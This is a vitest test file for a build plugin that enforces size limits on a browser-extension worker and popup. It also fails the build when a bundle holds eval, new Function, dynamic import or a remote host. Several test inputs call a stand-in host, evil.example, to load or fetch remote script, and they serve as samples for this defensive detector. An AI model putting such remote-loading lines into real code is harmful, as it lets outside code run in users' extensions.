import { randomBytes } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { buildVirtual } from '../../test/support/build-virtual';
import { bundleGates } from './bundle-gates';

const worker = { name: 'The worker', entry: 'background.ts', maximumBytes: 5_000 };
const popup = { name: 'The popup', entry: 'main.tsx', maximumBytes: 5_000 };
/** A module of more than 5,000 bytes, however it is compressed. */
const large = `export const large = '${randomBytes(6_000).toString('base64')}';`;

async function run(files: Record<string, string>, gates = [worker]): Promise<string[]> {
  const lines: string[] = [];
  const entries = Object.keys(files).filter(name => ['background.ts', 'main.tsx'].includes(name));
  await buildVirtual(files, entries, [bundleGates(gates, line => lines.push(line))]);
  return lines;
}

describe('a build', () => {
  test('within its bounds passes, and its sizes are reported', async () => {
    const files = { 'background.ts': "console.log('worker')", 'main.tsx': "console.log('popup')" };
    expect(await run(files, [worker, popup])).toEqual([
      expect.stringMatching(/^The worker: \d{2} of 5000 bytes gzip$/),
      expect.stringMatching(/^The popup: \d{2} of 5000 bytes gzip$/),
    ]);
  });

  test('that is too large fails', async () => {
    const files = { 'background.ts': `${large} console.log(large)` };
    await expect(run(files)).rejects.toThrow(/The worker is too large: \d{4} bytes gzip, at most 5000/);
  });

  test('fails for what it shares with another entry, too', async () => {
    const using = "import { large } from '/virtual/large.ts'; console.log(large)";
    const files = { 'background.ts': using, 'main.tsx': `${using}; console.log(1)`, 'large.ts': large };
    await expect(run(files, [worker])).rejects.toThrow('The worker is too large');
    await expect(run(files, [popup])).rejects.toThrow('The popup is too large');
  });

  test('fails for what it would load later, too', async () => {
    const files = { 'background.ts': "import('/virtual/large.ts')", 'large.ts': large };
    await expect(run(files)).rejects.toThrow('The worker is too large');
  });

  test('is not held to account for another entry', async () => {
    const files = { 'background.ts': 'console.log(1)', 'main.tsx': `${large} import(large)` };
    await expect(run(files, [worker])).resolves.toHaveLength(1);
  });

  test('without the entry that is to be measured fails', async () => {
    await expect(run({ 'main.tsx': 'console.log(1)' }, [worker])).rejects.toThrow('No bundle starts at background.ts');
  });
});

describe('67: a dependency adds `eval`, a remote host or `import(` to the worker: the build fails for', () => {
  test.each([
    ['import(', "import('https://evil.example/x.js')"],
    ['import(', 'import (globalThis.name)'],
    ['eval(', "console.log(eval('1'))"],
    ['eval(', "console.log((0, eval)('1'), globalThis.eval ('1'))"],
    ['new Function', "console.log(new Function('return 1')())"],
    ['new Function', 'console.log(new Function)'],
    ['the remote host https://evil.example/', "void fetch('https://evil.example/')"],
    ['the remote host //evil.example/x.js', "importScripts('//evil.example/x.js')"],
  ])('%s, as in %s', async (name, code) => {
    await expect(run({ 'background.ts': code })).rejects.toThrow(`holds ${name}`);
  });

  test('any but import( in a page, too', async () => {
    const files = { 'background.ts': 'console.log(1)', 'main.tsx': "console.log(eval('1'))" };
    await expect(run(files)).rejects.toThrow(/assets\/main-.*\.js holds eval\(/);
  });

  test('any of them in a part that it shares', async () => {
    const using = "import { run } from '/virtual/shared.ts'; run(1)";
    const shared = 'export const run = (a: unknown) => { console.log(new Function(String(a))) }';
    const files = { 'background.ts': using, 'main.tsx': `${using}; run(2)`, 'shared.ts': shared };
    await expect(run(files)).rejects.toThrow(/assets\/shared.*\.js holds new Function/);
  });

  test.each([
    ['a word that ends alike', "console.log(globalThis.retrieval('x'), globalThis.reimport)"],
    ['a static import', "import { a } from '/virtual/a.ts'; console.log(a)"],
  ])('but not %s', async (_name, code) => {
    await expect(run({ 'background.ts': code, 'a.ts': 'export const a = 1' })).resolves.toHaveLength(1);
  });
});
